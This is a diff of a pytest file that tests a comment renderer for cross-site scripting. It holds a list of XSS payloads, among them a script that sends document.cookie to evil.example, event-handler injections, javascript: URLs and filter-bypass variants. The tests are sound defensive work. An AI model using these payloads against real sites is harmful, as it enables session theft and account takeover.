@@ -1,9 +1,11 @@
+"""Visitor text must never become markup. The checks do not prescribe the template: any
+element the page has for a harmless comment is fine; what is judged is markup that comes from
+what the visitor typed (their tags, event handlers, javascript: links)."""
 import importlib
+import re
 from html.parser import HTMLParser
 
 import pytest
-
-ALLOWED = {"ul", "li", "strong", "p", "span", "div", "em", "br", "section", "article", "b", "i"}
 
 
 def load():
@@ -13,40 +15,80 @@ def load():
         pytest.fail(f"could not import render.py: {exc!r}")
 
 
-class Tags(HTMLParser):
+class Elements(HTMLParser):
     def __init__(self):
         super().__init__(convert_charrefs=True)
-        self.tags = []
+        self.found = []
 
     def handle_starttag(self, tag, attrs):
-        self.tags.append((tag, attrs))
+        self.found.append((tag, attrs))
 
     handle_startendtag = handle_starttag
 
 
-def tags_in(html):
-    p = Tags()
+def elements(html):
+    p = Elements()
     p.feed(html)
     p.close()
-    return p.tags
+    return p.found
 
 
-HOSTILE = [
-    {"author": "<script>document.location='https://evil.example/?c='+document.cookie</script>",
-     "text": "nice"},
-    {"author": "mallory", "text": "<img src=x onerror=alert(1)>"},
-    {"author": '<svg onload=alert(2)>', "text": "hi"},
-    {"author": "eve", "text": '<a href="javascript:alert(3)">click</a>'},
+PAYLOADS = [
+    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)",
+    "<IMG SRC=x OnError=alert(1)>",
+    "<svg/onload=alert(2)>",
+    "<svg onload=alert(2)>",
+    '<a href="javascript:alert(3)">click</a>',
+    '<a href=" JaVaScRiPt:alert(3)">click</a>',
+    "<scr<script>ipt>alert(4)</scr</script>ipt>",
+    "<<script>script>alert(5)<</script>/script>",
+    "<details open ontoggle=alert(6)>",
+    "<iframe srcdoc='&lt;script&gt;alert(7)&lt;/script&gt;'></iframe>",
+    '"><img src=x onerror=alert(8)>',
 ]
 
 
-@pytest.mark.parametrize("comment", HOSTILE, ids=["script-author", "img-text", "svg-author", "link-text"])
-def test_visitor_html_is_not_rendered_as_markup(comment):
-    html = load().render_comments([comment])
-    for tag, attrs in tags_in(html):
-        field = "author" if f"<{tag}" in comment["author"].lower() else "text"
-        assert tag in ALLOWED, (
-            f"a visitor's {field} became a real <{tag}> element in the page (cross-site scripting); "
-            "escape user text with html.escape")
-        handlers = [name for name, _ in attrs if name.startswith("on")]
-        assert not handlers, f"the rendered HTML has an event-handler attribute {handlers} (XSS)"
+def dangers(html, payload):
+    found = []
+    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z][a-zA-Z0-9]*)", payload.lower()))
+    for tag, attrs in elements(html):
+        if tag in tags and tag not in BASELINE_TAGS:
+            found.append(f"a <{tag}> element")
+        for name, value in attrs:
+            if name.startswith("on"):
+                found.append(f"an event handler {name}=")
+            if (value or "").strip().lower().replace("\t", "").startswith("javascript:"):
+                found.append(f"a javascript: URL in {name}=")
+    return found
+
+
+BASELINE_TAGS: set = set()
+
+
+@pytest.fixture(autouse=True)
+def baseline():
+    """The elements the page uses for harmless comments are the template's, never judged."""
+    mod = load()
+    try:
+        html = mod.render_comments([{"author": "ann", "text": "hello"}, {"author": "bo", "text": "hi"}])
+    except Exception:
+        html = ""
+    BASELINE_TAGS.clear()
+    BASELINE_TAGS.update(tag for tag, _ in elements(html if isinstance(html, str) else ""))
+
+
+@pytest.mark.parametrize("field", ["author", "text"])
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_visitor_input_is_not_rendered_as_markup(payload, field):
+    comment = {"author": "mallory", "text": "hello"}
+    comment[field] = payload
+    try:
+        html = load().render_comments([{"author": "ann", "text": "first"}, comment])
+    except Exception:
+        return  # an error is not markup; whether it may raise is not judged here
+    found = dangers(str(html), payload)
+    assert not found, (
+        f"a visitor's {field} {payload!r} became {found[0]} in the page (cross-site scripting); "
+        "escape user text with html.escape")
